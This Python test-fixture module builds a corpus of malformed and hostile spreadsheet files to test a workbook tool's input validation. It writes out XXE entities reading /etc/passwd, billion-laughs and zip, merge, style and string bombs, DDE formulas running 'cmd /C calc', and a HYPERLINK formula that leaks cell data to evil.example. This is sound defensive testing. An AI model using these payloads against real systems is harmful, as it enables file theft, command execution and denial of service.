"""The bad-input corpus, built in code: one broken or hostile file per failure family.

`build_corpus(folder)` writes every file and returns `{name: CorpusFile(path, code)}`, where
`code` is the problem code the file must produce (None: nothing is wrong at file level).
`STAGE[name]` says which layer reports it: the gate (reading), the door (writing), or the
table checks (data). `HOSTILE` names the files built to exhaust memory or time.
"""

from __future__ import annotations

import functools
import random
import re
import struct
import zipfile
from pathlib import Path
from typing import Any, NamedTuple

from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.table import Table

from salesgoal_xl.core.problems import ProblemCode
from salesgoal_xl.workbook.schema import table


class CorpusFile(NamedTuple):
    """A corpus file and the problem code it must produce (None: clean at file level)."""

    path: Path
    code: ProblemCode | None


MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
DOC_REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
STRICT_MAIN_NS = "http://purl.oclc.org/ooxml/spreadsheetml/main"
STRICT_DOC_REL_NS = "http://purl.oclc.org/ooxml/officeDocument/relationships"

# Sheet parts of the base workbook, in tab order.
SETTINGS_PART = "xl/worksheets/sheet1.xml"
HISTORY_PART = "xl/worksheets/sheet2.xml"
NOTES_PART = "xl/worksheets/sheet3.xml"
USER_SHEET = "My notes"


def _add_table(ws: Any, name: str, rows: list[list[object]]) -> None:
    tbl = table(name)
    ws.append([c.label.en for c in tbl.columns])
    for row in rows:
        ws.append(row)
    last_col = chr(ord("A") + len(tbl.columns) - 1)
    ws.add_table(Table(displayName=name, ref=f"A1:{last_col}{len(rows) + 1}"))


def build_base_workbook(path: Path, *, rep_names: list[object] | None = None) -> Path:
    """A small valid plan: Settings with tblReps, History with tblHistory, a user sheet."""
    wb = Workbook()
    settings = wb.active
    settings.title = "Settings"
    names = rep_names or ["Ann Lee", "Bo Chen", "Cy Wu"]
    reps_cols = len(table("tblReps").columns)
    reps = []
    for i, name in enumerate(names, 1):
        row: list[object] = [f"R{i}", name, "North", "East"]
        reps.append(row + [None] * (reps_cols - len(row)))
    _add_table(settings, "tblReps", reps)
    history = wb.create_sheet("History")
    _add_table(
        history,
        "tblHistory",
        [[f"2024-{m:02d}", "R1", "Direct", "Widgets", 1000 * m] for m in range(1, 5)],
    )
    notes = wb.create_sheet(USER_SHEET)
    for r in range(1, 4):
        notes.cell(r, 1, r * 10)
    wb.save(path)
    return path


def repack(src: Path, dst: Path, replace: dict[str, bytes], add: dict[str, bytes]) -> Path:
    """Copy a package, replacing some parts and appending others."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = replace.get(info.filename, zin.read(info))
            zout.writestr(info.filename, data)
        for name, data in add.items():
            zout.writestr(name, data)
    return dst


def _part(src: Path, name: str) -> bytes:
    with zipfile.ZipFile(src) as zf:
        return zf.read(name)


def _insert_before(xml: bytes, marker: bytes, extra: bytes) -> bytes:
    at = xml.rindex(marker)
    return xml[:at] + extra + xml[at:]


def _with_content_type(src: Path, part_name: str, content_type: str) -> bytes:
    types = _part(src, "[Content_Types].xml")
    override = f'<Override PartName="/{part_name}" ContentType="{content_type}"/>'.encode()
    return _insert_before(types, b"</Types>", override)


def compound_file(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE compound file (version 3, 512-byte sectors) holding `streams`.

    Every stream is padded to at least 4096 bytes so it lives in regular sectors (no mini
    stream is needed); there is one FAT sector and one directory sector (up to 3 streams).
    """
    sector = 512
    names = sorted(streams, key=lambda n: (len(n), n.upper()))
    assert len(names) <= 3
    blobs = [streams[n].ljust(4096, b"\x00") for n in names]
    blobs = [b.ljust(-(-len(b) // sector) * sector, b"\x00") for b in blobs]
    free, end, fat_sect = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    fat = [fat_sect, end]  # sector 0 is the FAT, sector 1 the directory
    starts = []
    for blob in blobs:
        count = len(blob) // sector
        starts.append(len(fat))
        fat += [len(fat) + i + 1 for i in range(count - 1)] + [end]
    assert len(fat) <= sector // 4
    fat += [free] * (sector // 4 - len(fat))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\x00\x00"
        return (
            raw.ljust(64, b"\x00")
            + struct.pack("<HBB", len(raw), kind, 1)
            + struct.pack("<III", free, right, child)
            + b"\x00" * 16
            + b"\x00" * 4
            + b"\x00" * 16
            + struct.pack("<IQ", start, size)
        )

    directory = entry("Root Entry", 5, 1 if names else free, free, end, 0)
    for i, name in enumerate(names):
        right = i + 2 if i + 1 < len(names) else free
        directory += entry(name, 2, free, right, starts[i], len(streams[name]))
    directory = directory.ljust(sector, b"\x00")
    header = (
        bytes.fromhex("D0CF11E0A1B11AE1")
        + b"\x00" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\x00" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
        + struct.pack("<I", 0)
        + struct.pack("<I", free) * 108
    )
    assert len(header) == sector
    return header + struct.pack(f"<{sector // 4}I", *fat) + directory + b"".join(blobs)


def _patch_central_sizes(data: bytes, member: str, *, size: int | None, flag: int = 0) -> bytes:
    """Forge a member's uncompressed size and/or flag bits in both of its zip headers."""
    out = bytearray(data)
    eocd = data.rindex(b"PK\x05\x06")
    count, _size, offset = struct.unpack_from("<HII", data, eocd + 10)
    for _ in range(count):
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, offset + 28)
        name = data[offset + 46 : offset + 46 + name_len].decode()
        if name == member:
            local = struct.unpack_from("<I", data, offset + 42)[0]
            for header, size_at, flag_at in ((local, 22, 6), (offset, 24, 8)):
                if size is not None:
                    struct.pack_into("<I", out, header + size_at, size)
                old = struct.unpack_from("<H", out, header + flag_at)[0]
                struct.pack_into("<H", out, header + flag_at, old | flag)
            return bytes(out)
        offset += 46 + name_len + extra_len + comment_len
    raise KeyError(member)


def _drawing_with_shape() -> bytes:
    return (
        b'<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/'
        b'spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        b"<xdr:twoCellAnchor><xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff>"
        b"<xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>4</xdr:col>"
        b"<xdr:colOff>0</xdr:colOff><xdr:row>6</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>"
        b'<xdr:sp macro="" textlink=""><xdr:nvSpPr><xdr:cNvPr id="2" name="Note box"/>'
        b'<xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom>'
        b"</xdr:spPr><xdr:txBody><a:bodyPr/><a:p><a:r><a:t>Remember the Q4 push</a:t></a:r>"
        b"</a:p></xdr:txBody></xdr:sp><xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>"
    )


SPARKLINES = (
    b'<extLst><ext uri="{05C60535-1F16-4fd2-B633-F4F36F0B64E0}" '
    b'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
    b'<x14:sparklineGroups xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
    b'<x14:sparklineGroup displayEmptyCellsAs="gap"><x14:colorSeries rgb="FF376092"/>'
    b"<x14:sparklines><x14:sparkline><xm:f>'My notes'!A1:A3</xm:f><xm:sqref>B1</xm:sqref>"
    b"</x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></ext>"
    b"</extLst>"
)


def _external_link(base: Path, dst: Path, link_xml: bytes, with_book_rel: bool) -> Path:
    workbook = _part(base, "xl/workbook.xml").replace(
        b"</sheets>",
        f'</sheets><externalReferences><externalReference xmlns:r="{DOC_REL_NS}" '
        'r:id="rIdX1"/></externalReferences>'.encode(),
    )
    rels = _insert_before(
        _part(base, "xl/_rels/workbook.xml.rels"),
        b"</Relationships>",
        f'<Relationship Id="rIdX1" Type="{DOC_REL_NS}/externalLink" '
        'Target="externalLinks/externalLink1.xml"/>'.encode(),
    )
    types = _with_content_type(
        base,
        "xl/externalLinks/externalLink1.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
    )
    add = {"xl/externalLinks/externalLink1.xml": link_xml}
    if with_book_rel:
        add["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
            f'<Relationships xmlns="{REL_NS}"><Relationship Id="rId1" '
            f'Type="{DOC_REL_NS}/externalLinkPath" Target="file:///C:/plans/other.xlsx" '
            'TargetMode="External"/></Relationships>'
        ).encode()
    return repack(
        base,
        dst,
        {
            "xl/workbook.xml": workbook,
            "xl/_rels/workbook.xml.rels": rels,
            "[Content_Types].xml": types,
        },
        add,
    )


@functools.cache
def _merge_cells(count: int) -> bytes:
    """A `<mergeCells>` block of `count` one-row ranges below the tables (A20:B20, ...)."""
    ranges = b"".join(b'<mergeCell ref="A%d:B%d"/>' % (row, row) for row in range(20, 20 + count))
    return b'<mergeCells count="%d">' % count + ranges + b"</mergeCells>"


@functools.cache
def _shared_strings(count: int) -> bytes:
    """A shared-strings part of `count` distinct short texts."""
    items = b"".join(b"<si><t>s%d</t></si>" % i for i in range(count))
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        + f'<sst xmlns="{MAIN_NS}" count="{count}" uniqueCount="{count}">'.encode()
        + items
        + b"</sst>"
    )


def with_shared_strings(base: Path, dst: Path, count: int) -> Path:
    rels = _insert_before(
        _part(base, "xl/_rels/workbook.xml.rels"),
        b"</Relationships>",
        f'<Relationship Id="rIdS1" Type="{DOC_REL_NS}/sharedStrings" '
        'Target="sharedStrings.xml"/>'.encode(),
    )
    types = _with_content_type(
        base,
        "xl/sharedStrings.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml",
    )
    return repack(
        base,
        dst,
        {"xl/_rels/workbook.xml.rels": rels, "[Content_Types].xml": types},
        {"xl/sharedStrings.xml": _shared_strings(count)},
    )


def with_cell_formats(base: Path, dst: Path, count: int) -> Path:
    """The base workbook with `count` cell formats (`<xf/>`) in its styles' cellXfs."""
    styles = _part(base, "xl/styles.xml")
    start = re.search(rb"<cellXfs[^>]*>", styles)
    assert start is not None
    end = styles.index(b"</cellXfs>")
    formats = b'<cellXfs count="%d">' % count + b"<xf/>" * count
    return repack(
        base, dst, {"xl/styles.xml": styles[: start.start()] + formats + styles[end:]}, {}
    )


def _as_strict(base: Path, dst: Path) -> Path:
    """The base workbook as Excel's Strict Open XML format writes it: the same parts with the
    SpreadsheetML and relationship-type namespaces of ISO 29500 Strict."""
    replaced = {}
    with zipfile.ZipFile(base) as zf:
        for name in zf.namelist():
            if name.endswith((".xml", ".rels")) and name != "[Content_Types].xml":
                data = zf.read(name)
                data = data.replace(MAIN_NS.encode(), STRICT_MAIN_NS.encode())
                data = data.replace(DOC_REL_NS.encode(), STRICT_DOC_REL_NS.encode())
                replaced[name] = data
    replaced["xl/workbook.xml"] = replaced["xl/workbook.xml"].replace(
        b"<workbook ", b'<workbook conformance="strict" ', 1
    )
    return repack(base, dst, replaced, {})


def _cut_in_half(base: Path, dst: Path, part: str) -> Path:
    """The base workbook with one part cut off halfway: no longer well-formed XML."""
    data = _part(base, part)
    return repack(base, dst, {part: data[: len(data) // 2]}, {})


# Which layer reports each file's code: the gate (reading), the door (writing), or the
# table checks (data).
STAGE: dict[str, str] = {
    **dict.fromkeys(
        (
            "missing",
            "empty",
            "random_bytes",
            "too_large",
            "csv_renamed",
            "html_renamed",
            "legacy_xls",
            "encrypted",
            "truncated",
            "bad_crc",
            "zip_bomb_ratio",
            "zip_bomb_declared",
            "zip_encrypted_member",
            "too_many_parts",
            "not_a_workbook",
            "billion_laughs",
            "xxe",
            "xxe_utf32",
            "entities_utf16",
            "malformed_rels",
            "malformed_content_types",
            "malformed_book_rels",
            "malformed_workbook",
            "merge_bomb",
            "style_bomb",
            "string_bomb",
            "strict_ooxml",
            "forged_dimension",
            "far_away_cell",
            "far_away_row",
            "dde_formula",
            "dde_link",
            "external_link",
            "xlsm_vba",
            "ole_embedding",
            "locked",
        ),
        "gate",
    ),
    "formula_injection": "data",
    "drawing_shape": "door",
    "sparklines": "door",
}
HOSTILE = frozenset(
    {
        "zip_bomb_ratio",
        "zip_bomb_declared",
        "too_many_parts",
        "billion_laughs",
        "xxe",
        "xxe_utf32",
        "entities_utf16",
        "merge_bomb",
        "style_bomb",
        "string_bomb",
        "far_away_cell",
        "far_away_row",
        "forged_dimension",
        "too_large",
        "random_bytes",
        "encrypted",
        "legacy_xls",
        "truncated",
    }
)


def build_corpus(folder: Path) -> dict[str, CorpusFile]:
    """Write every corpus file under `folder`; return {name: (path, expected code)}."""
    folder.mkdir(parents=True, exist_ok=True)
    base = build_base_workbook(folder / "_base.xlsx")
    base_bytes = base.read_bytes()
    out: dict[str, CorpusFile] = {}

    def put(name: str, code: ProblemCode | None, stage: str, path: Path) -> None:
        assert STAGE[name] == stage, name
        out[name] = CorpusFile(path, code)

    def write(name: str, suffix: str, data: bytes) -> Path:
        path = folder / f"{name}{suffix}"
        path.write_bytes(data)
        return path

    put("missing", ProblemCode.FILE_NOT_FOUND, "gate", folder / "missing.xlsx")
    put("empty", ProblemCode.EMPTY_FILE, "gate", write("empty", ".xlsx", b""))
    noise = random.Random(4).randbytes(8192)
    put("random_bytes", ProblemCode.NOT_XLSX, "gate", write("random_bytes", ".xlsx", noise))
    too_large = folder / "too_large.xlsx"
    with too_large.open("wb") as fh:
        fh.write(b"PK\x03\x04")
        fh.truncate(201 * 1024 * 1024)  # sparse: costs no disk space
    put("too_large", ProblemCode.FILE_TOO_LARGE, "gate", too_large)
    csv = "Rep ID,Rep name,Team,Region\nR1,Ann Lee,North,East\nR2,Bo Chen,South,West\n"
    put(
        "csv_renamed", ProblemCode.CSV_NOT_XLSX, "gate", write("csv_renamed", ".xlsx", csv.encode())
    )
    html = b"<html><body><table><tr><td>Rep ID</td></tr></table></body></html>"
    put("html_renamed", ProblemCode.NOT_XLSX, "gate", write("html_renamed", ".xlsx", html))
    put(
        "legacy_xls",
        ProblemCode.LEGACY_XLS,
        "gate",
        write("legacy_xls", ".xlsx", compound_file({"Workbook": b"\x09\x08" + b"\x00" * 200})),
    )
    encrypted = compound_file(
        {
            "EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00<encryption/>",
            "EncryptedPackage": random.Random(5).randbytes(6000),
        }
    )
    put("encrypted", ProblemCode.ENCRYPTED, "gate", write("encrypted", ".xlsx", encrypted))
    truncated = base_bytes[: len(base_bytes) // 2]
    put("truncated", ProblemCode.TRUNCATED, "gate", write("truncated", ".xlsx", truncated))

    # A stored (uncompressed) sheet with one byte changed: the CRC no longer matches.
    stored = folder / "bad_crc.xlsx"
    with zipfile.ZipFile(base) as zin, zipfile.ZipFile(stored, "w") as zout:
        for info in zin.infolist():
            kind = zipfile.ZIP_STORED if info.filename == HISTORY_PART else zipfile.ZIP_DEFLATED
            zout.writestr(info.filename, zin.read(info), compress_type=kind)
    raw = bytearray(stored.read_bytes())
    at = raw.index(b"<v>4000</v>")
    raw[at + 3] = ord("9")
    stored.write_bytes(bytes(raw))
    put("bad_crc", ProblemCode.TRUNCATED, "gate", stored)

    notes = _part(base, NOTES_PART)
    padded = notes.replace(b"<sheetData>", b"<sheetData>" + b" " * (24 * 1024 * 1024))
    put(
        "zip_bomb_ratio",
        ProblemCode.ZIP_BOMB,
        "gate",
        repack(base, folder / "zip_bomb_ratio.xlsx", {NOTES_PART: padded}, {}),
    )
    put(
        "zip_bomb_declared",
        ProblemCode.ZIP_BOMB,
        "gate",
        write(
            "zip_bomb_declared",
            ".xlsx",
            _patch_central_sizes(base_bytes, NOTES_PART, size=3_000_000_000),
        ),
    )
    put(
        "zip_encrypted_member",
        ProblemCode.ENCRYPTED,
        "gate",
        write(
            "zip_encrypted_member",
            ".xlsx",
            _patch_central_sizes(base_bytes, NOTES_PART, size=None, flag=0x1),
        ),
    )
    many = {f"xl/junk/part{i}.xml": b"<a/>" for i in range(10_001)}
    put(
        "too_many_parts",
        ProblemCode.TOO_MANY_PARTS,
        "gate",
        repack(base, folder / "too_many_parts.xlsx", {}, many),
    )
    docx = folder / "not_a_workbook.xlsx"
    with zipfile.ZipFile(docx, "w") as zf:
        zf.writestr("[Content_Types].xml", b"<Types/>")
        zf.writestr("word/document.xml", b"<document/>")
    put("not_a_workbook", ProblemCode.NOT_XLSX, "gate", docx)

    settings = _part(base, SETTINGS_PART)
    laughs = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    laughs += b"]>" + settings.split(b"?>", 1)[-1].replace(b"Ann Lee", b"&lol9;")
    put(
        "billion_laughs",
        ProblemCode.XML_ENTITIES,
        "gate",
        repack(base, folder / "billion_laughs.xlsx", {SETTINGS_PART: laughs}, {}),
    )
    workbook = _part(base, "xl/workbook.xml")
    xxe = (
        b'<?xml version="1.0"?><!DOCTYPE workbook [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        + workbook.split(b"?>", 1)[-1].replace(b'name="History"', b'name="&xxe;"')
    )
    put(
        "xxe",
        ProblemCode.XML_ENTITIES,
        "gate",
        repack(base, folder / "xxe.xlsx", {"xl/workbook.xml": xxe}, {}),
    )
    # The same attack in UTF-32, an encoding Excel never writes and the XML parser cannot read.
    xxe_utf32 = (
        '<?xml version="1.0" encoding="UTF-32"?>'
        '<!DOCTYPE workbook [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        + workbook.decode("utf-8").split("?>", 1)[-1]
    ).encode("utf-32")
    put(
        "xxe_utf32",
        ProblemCode.XML_ENTITIES,
        "gate",
        repack(base, folder / "xxe_utf32.xlsx", {"xl/workbook.xml": xxe_utf32}, {}),
    )
    for name, part in (
        ("malformed_rels", "_rels/.rels"),
        ("malformed_content_types", "[Content_Types].xml"),
        ("malformed_book_rels", "xl/_rels/workbook.xml.rels"),
        ("malformed_workbook", "xl/workbook.xml"),
    ):
        put(name, ProblemCode.UNREADABLE, "gate", _cut_in_half(base, folder / f"{name}.xlsx", part))
    core = _part(base, "docProps/core.xml").decode("utf-8").split("?>", 1)[-1]
    utf16 = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "e">]>' + core
    put(
        "entities_utf16",
        ProblemCode.XML_ENTITIES,
        "gate",
        repack(
            base,
            folder / "entities_utf16.xlsx",
            {"docProps/core.xml": b"\xff\xfe" + utf16.encode("utf-16-le")},
            {},
        ),
    )

    forged = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', settings)
    put(
        "forged_dimension",
        None,
        "gate",
        repack(base, folder / "forged_dimension.xlsx", {SETTINGS_PART: forged}, {}),
    )
    far = _insert_before(
        settings,
        b"</sheetData>",
        b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>oops</t></is></c></row>',
    )
    put(
        "far_away_cell",
        ProblemCode.FAR_AWAY_CELL,
        "gate",
        repack(base, folder / "far_away_cell.xlsx", {SETTINGS_PART: far}, {}),
    )
    # 800,000 merged ranges: 3.8 MB zipped; openpyxl took 100 s and 1.2 GB to bind them.
    merged = settings.replace(b"</sheetData>", b"</sheetData>" + _merge_cells(800_000))
    put(
        "merge_bomb",
        ProblemCode.TOO_MANY_MERGES,
        "gate",
        repack(base, folder / "merge_bomb.xlsx", {SETTINGS_PART: merged}, {}),
    )
    put(
        "style_bomb",
        ProblemCode.TOO_MANY_STYLES,
        "gate",
        with_cell_formats(base, folder / "style_bomb.xlsx", 70_000),
    )
    put(
        "string_bomb",
        ProblemCode.TOO_MANY_STRINGS,
        "gate",
        with_shared_strings(base, folder / "string_bomb.xlsx", 1_000_001),
    )
    put("strict_ooxml", ProblemCode.STRICT_OOXML, "gate", _as_strict(base, folder / "strict.xlsx"))
    history = _part(base, HISTORY_PART)
    far_row = _insert_before(
        history, b"</sheetData>", b'<row r="900000"><c r="C900000"><v>7</v></c></row>'
    )
    put(
        "far_away_row",
        ProblemCode.FAR_AWAY_CELL,
        "gate",
        repack(base, folder / "far_away_row.xlsx", {HISTORY_PART: far_row}, {}),
    )
    dde = _insert_before(
        settings,
        b"</sheetData>",
        b'<row r="10"><c r="A10"><f>cmd|\' /C calc\'!A0</f><v>0</v></c></row>',
    )
    put(
        "dde_formula",
        ProblemCode.DDE_LINK,
        "gate",
        repack(base, folder / "dde_formula.xlsx", {SETTINGS_PART: dde}, {}),
    )
    dde_link = (
        f'<externalLink xmlns="{MAIN_NS}"><ddeLink ddeService="cmd" ddeTopic="/C calc">'
        '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
    ).encode()
    put(
        "dde_link",
        ProblemCode.DDE_LINK,
        "gate",
        _external_link(base, folder / "dde_link.xlsx", dde_link, with_book_rel=False),
    )
    book_link = (
        f'<externalLink xmlns="{MAIN_NS}" xmlns:r="{DOC_REL_NS}"><externalBook r:id="rId1">'
        '<sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0"/>'
        "</sheetDataSet></externalBook></externalLink>"
    ).encode()
    put(
        "external_link",
        ProblemCode.EXTERNAL_LINK,
        "gate",
        _external_link(base, folder / "external_link.xlsx", book_link, with_book_rel=True),
    )
    types = _with_content_type(
        base, "xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    ).replace(
        b'<Override PartName="/xl/workbook.xml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>',
        b"",
    )
    types = _insert_before(
        types,
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    )
    put(
        "xlsm_vba",
        ProblemCode.MACRO_ENABLED,
        "gate",
        repack(
            base,
            folder / "xlsm_vba.xlsm",
            {"[Content_Types].xml": types},
            {"xl/vbaProject.bin": compound_file({"dir": b"Attribute VB_Name"})},
        ),
    )
    ole_types = _insert_before(
        _part(base, "[Content_Types].xml"),
        b"</Types>",
        b'<Default Extension="bin" '
        b'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
    )
    put(
        "ole_embedding",
        ProblemCode.OLE_OBJECT,
        "gate",
        repack(
            base,
            folder / "ole_embedding.xlsx",
            {"[Content_Types].xml": ole_types},
            {"xl/embeddings/oleObject1.bin": compound_file({"\x01Ole10Native": b"MZ" * 64})},
        ),
    )

    # Formula-injection: a real formula in an input cell (the table checks report it) and
    # text that merely looks like formulas (text is fine and must stay text).
    injection = folder / "formula_injection.xlsx"
    build_base_workbook(
        injection,
        rep_names=['=HYPERLINK("http://evil.example/?leak="&A2,"Click me")', "Bo Chen", "Cy Wu"],
    )
    wb = load_workbook(injection)
    ws = wb["Settings"]
    for row, text in ((3, "+cmd|' /C calc'!A0"), (4, "@SUM(1+1)*cmd|' /C calc'!A0")):
        ws.cell(row, 2).value = text
        ws.cell(row, 2).data_type = "s"
    wb.save(injection)
    put("formula_injection", ProblemCode.FORMULA_IN_INPUT, "data", injection)

    # What openpyxl would drop on save: the door must refuse.
    drawing_types = _with_content_type(
        base,
        "xl/drawings/drawing1.xml",
        "application/vnd.openxmlformats-officedocument.drawing+xml",
    )
    drawing_sheet = _insert_before(
        notes, b"</worksheet>", f'<drawing xmlns:r="{DOC_REL_NS}" r:id="rIdD1"/>'.encode()
    )
    put(
        "drawing_shape",
        ProblemCode.WOULD_DROP_FEATURE,
        "door",
        repack(
            base,
            folder / "drawing_shape.xlsx",
            {NOTES_PART: drawing_sheet, "[Content_Types].xml": drawing_types},
            {
                "xl/worksheets/_rels/sheet3.xml.rels": (
                    f'<Relationships xmlns="{REL_NS}"><Relationship Id="rIdD1" '
                    f'Type="{DOC_REL_NS}/drawing" Target="../drawings/drawing1.xml"/>'
                    "</Relationships>"
                ).encode(),
                "xl/drawings/drawing1.xml": _drawing_with_shape(),
            },
        ),
    )
    put(
        "sparklines",
        ProblemCode.WOULD_DROP_FEATURE,
        "door",
        repack(
            base,
            folder / "sparklines.xlsx",
            {NOTES_PART: _insert_before(notes, b"</worksheet>", SPARKLINES)},
            {},
        ),
    )

    locked = folder / "locked.xlsx"
    locked.write_bytes(base_bytes)
    owner = "Alice Chen"
    record = bytes([len(owner)]) + owner.encode("cp1252").ljust(53, b" ") + b"\x00"
    record += struct.pack("<H", len(owner)) + owner.encode("utf-16-le")
    (folder / "~$locked.xlsx").write_bytes(record.ljust(162, b"\x00"))
    put("locked", ProblemCode.FILE_LOCKED, "gate", locked)
    return out
